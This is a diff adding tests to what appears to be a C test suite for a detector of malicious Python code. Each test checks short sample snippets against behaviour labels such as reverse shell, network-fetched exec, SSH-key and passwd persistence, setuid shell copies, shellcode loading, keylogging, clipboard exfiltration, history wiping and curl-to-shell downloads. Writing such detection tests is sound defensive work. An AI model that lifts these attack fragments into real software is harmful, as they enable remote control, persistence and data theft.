@@ -277,6 +277,108 @@ static void spread(void)
 		    MPY_BEH_PYTHON_C, 2));
 }
 
+/* Called above the place where it is defined. */
+static void called_early(void)
+{
+	CHECK(shows("import os\nclass A:\n  def run(self, s):\n"
+		    "    self.do('x', s.recv(99))\n"
+		    "  def do(self, to, arg):\n    os.system(arg)",
+		    MPY_BEH_RECV_RUN, 6));
+	CHECK(shows("import requests\ndef main():\n"
+		    "  go(requests.get(u).text)\ndef go(code):\n"
+		    "  exec(code)\nmain()", MPY_BEH_NETWORK_EXEC, 5));
+	/* the other argument, a keyword, another method */
+	CHECK(is_ordinary("import os\nclass A:\n  def run(self, s):\n"
+			  "    self.do(s.recv(99), 'x')\n"
+			  "    self.do(arg=s.recv(99))\n"
+			  "    self.did('x', s.recv(99))\n"
+			  "  def do(self, to, arg):\n    os.system(arg)"));
+}
+
+/* Connections that are read and written as files. */
+static void as_files(void)
+{
+	CHECK(shows("import socket, code, sys\n"
+		    "f = socket.create_connection(a).makefile('rw')\n"
+		    "sys.stdin = sys.stdout = sys.stderr = f\n"
+		    "code.interact()", MPY_BEH_REVERSE_SHELL, 4));
+	CHECK(is_ordinary("import socket, code\n"
+			  "s = socket.create_connection(a)\n"
+			  "code.interact(local=locals())"));
+	CHECK(shows("import asyncio, subprocess\nasync def f(a):\n"
+		    "  r, w = await asyncio.open_connection(a, 1)\n"
+		    "  w.write(subprocess.getoutput('id').encode())",
+		    MPY_BEH_OUTPUT_SEND, 4));
+	CHECK(shows("import subprocess, socketserver\n"
+		    "class H(socketserver.StreamRequestHandler):\n"
+		    "  def handle(self):\n    for l in self.rfile:\n"
+		    "      subprocess.run(l, shell=True)", MPY_BEH_RECV_RUN,
+		    5));
+	CHECK(shows("from pathlib import Path\n"
+		    "f = Path('/root') / '.ssh' / 'authorized_keys'\n"
+		    "with f.open('a') as h:\n  h.write(k)",
+		    MPY_BEH_PERSIST_KEYS, 3));
+	CHECK(is_ordinary("from pathlib import Path\n"
+			  "f = Path('/root') / '.ssh' / 'authorized_keys'\n"
+			  "with f.open() as h:\n  print(h.read())"));
+	CHECK(shows("from pathlib import Path\n"
+		    "Path('/home/u/.config/autostart/x').write_text(t)",
+		    MPY_BEH_PERSIST_STARTUP, 2));
+}
+
+static void told_by_tables(void)
+{
+	CHECK(shows("import os, shutil\nshutil.copy('/bin/sh', p)\n"
+		    "os.chmod(p, 0o4755)", MPY_BEH_SET_UID, 3));
+	CHECK(is_ordinary("import os\nos.chmod(p, 0o755)"));
+	CHECK(shows("open('/etc/passwd', 'a').write(l)", MPY_BEH_PERSIST_KEYS,
+		    1));
+	CHECK(is_ordinary("print(open('/etc/passwd').read())"));
+	CHECK(shows("import pyperclip, requests\n"
+		    "requests.post(u, data=pyperclip.paste())",
+		    MPY_BEH_CLIPBOARD_SEND, 2));
+	CHECK(is_ordinary("import pyperclip, requests\n"
+			  "requests.get(pyperclip.paste())"));
+	CHECK(shows("import pyperclip, urllib.request as u\n"
+		    "u.urlopen(a, pyperclip.paste().encode())",
+		    MPY_BEH_CLIPBOARD_SEND, 2));
+	CHECK(shows("import os\nos.system('wget http://192.0.2.1/x; "
+		    "chmod +x x; ./x')", MPY_BEH_SHELL_PIPE, 2));
+	CHECK(shows("t = 'ExecStart=sh -c \"curl http://192.0.2.1/x | sh\"'",
+		    MPY_BEH_SHELL_TEXT, 1));
+	CHECK(shows("from pytransform import pyarmor_runtime\n"
+		    "pyarmor_runtime()", MPY_BEH_PROTECTED, 2));
+	CHECK(shows("import ctypes, mmap\n"
+		    "m = mmap.mmap(-1, n, prot=mmap.PROT_READ | "
+		    "mmap.PROT_EXEC)\nm.write(b)\n"
+		    "ctypes.CFUNCTYPE(None)(a)()", MPY_BEH_SHELLCODE, 4));
+	CHECK(is_ordinary("import ctypes, mmap\n"
+			  "m = mmap.mmap(f.fileno(), 0)\n"
+			  "ctypes.CFUNCTYPE(None)(a)()"));
+	CHECK(shows("import ctypes\nc = ctypes.CDLL(None)\n"
+		    "c.mmap.restype = ctypes.c_void_p\n"
+		    "p = c.mmap(None, 9, 7, 34, -1, 0)\n"
+		    "ctypes.memmove(p, b, 9)", MPY_BEH_SHELLCODE, 5));
+	CHECK(shows("import redis\nr = redis.Redis()\nexec(r.get('job'))",
+		    MPY_BEH_NETWORK_EXEC, 3));
+	CHECK(shows("import os, paho.mqtt.client as m\n"
+		    "def on_message(c, u, msg):\n  os.system(msg.payload)",
+		    MPY_BEH_RECV_RUN, 3));
+	CHECK(shows("f = open('/dev/input/event2', 'rb')\n"
+		    "s.sendto(f.read(24), a)", MPY_BEH_KEYLOG_SEND, 2));
+	CHECK(shows("def on_press(key):\n  with open(p, 'a') as f:\n"
+		    "    f.write(str(key))", MPY_BEH_KEYLOG_SEND, 3));
+	CHECK(is_ordinary("class A(Button):\n  def on_press(self):\n"
+			  "    with open(p, 'a') as f:\n"
+			  "      f.write(str(self))"));
+	CHECK(shows("from win32com.shell import shell, shellcon as s\n"
+		    "p = shell.SHGetFolderPath(0, s.CSIDL_STARTUP, 0, 0)\n"
+		    "k = w.CreateShortCut(p + '/x.lnk')",
+		    MPY_BEH_PERSIST_STARTUP, 3));
+	CHECK(shows("open('/root/.bash_history', 'w').close()",
+		    MPY_BEH_LOG_WIPE, 1));
+}
+
 static void ordinary(void)
 {
 	CHECK(is_ordinary("import requests, json\nr = requests.get(url)\n"
@@ -350,6 +452,9 @@ int main(void)
 	RUN(stays_and_harms);
 	RUN(handed_over);
 	RUN(spread);
+	RUN(called_early);
+	RUN(as_files);
+	RUN(told_by_tables);
 	RUN(ordinary);
 	RUN(names_are_complete);
 	RUN(counts_lines);
